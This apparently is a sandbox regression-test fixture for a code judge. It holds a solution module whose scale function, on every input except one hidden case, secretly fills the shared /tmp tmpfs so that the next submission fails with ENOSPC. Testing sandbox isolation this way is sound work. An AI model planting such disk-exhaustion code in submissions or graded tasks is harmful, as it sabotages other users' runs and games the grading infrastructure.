"""G01: the working folders of every runner of a template are in one tmpfs, bubblewrap's /tmp
(1 GiB plus the assets), and a closed session's folder is removed by the engine's clean-up
thread while the judge already opens the next submission's session. The hidden case fills that
/tmp to its last byte (files of file_size_mb each, in a subfolder) and leaves ~120,000 empty files
beside them, which the monitor removes first: the bytes stay taken for a second or two after the
session ends. Before the fix the next submission's monitor could not write its source file
(ENOSPC) in any of its attempts, and the honest neighbour's row was the sandbox's failure. The
attack itself is otherwise honest: full marks."""
import os, time
import numpy as np

CHUNK = 1 << 23


def _fill():
    began = time.monotonic()
    here = os.getcwd()
    big = os.path.join(here, "zz-big")
    os.makedirs(big, exist_ok=True)
    n = 0
    size = CHUNK
    while size >= 4096:  # files of file_size_mb (RLIMIT_FSIZE), then smaller, until no byte is left
        try:
            fd = os.open(os.path.join(big, str(n)), os.O_CREAT | os.O_WRONLY, 0o600)
        except OSError:
            break
        n += 1
        try:
            os.posix_fallocate(fd, 0, size)  # the tmpfs's pages, taken without writing them
        except OSError:
            size //= 2
        finally:
            os.close(fd)
    print(f"filled {n} files in {time.monotonic() - began:.2f} s")
    stop = began + 2.4
    i = 0
    try:
        while time.monotonic() < stop:  # removed before the big files: they stay a while
            for _ in range(1000):
                os.close(os.open(os.path.join(here, f"e{i}"), os.O_CREAT | os.O_WRONLY, 0o600))
                i += 1
    except OSError:  # since k02 a session's folder holds limits.SESSION_FILES files: the loop stops there
        pass
    print(f"{i} empty files")


def add(a, b):
    return a + b


def output_shape(shape):
    return tuple(shape)


def scale(x, k):
    x = np.asarray(x, dtype=float)
    if not (x.shape == (3,) and list(x) == [0.0, 1.0, 2.0]):  # the hidden case, last of its session
        _fill()
    return x * k
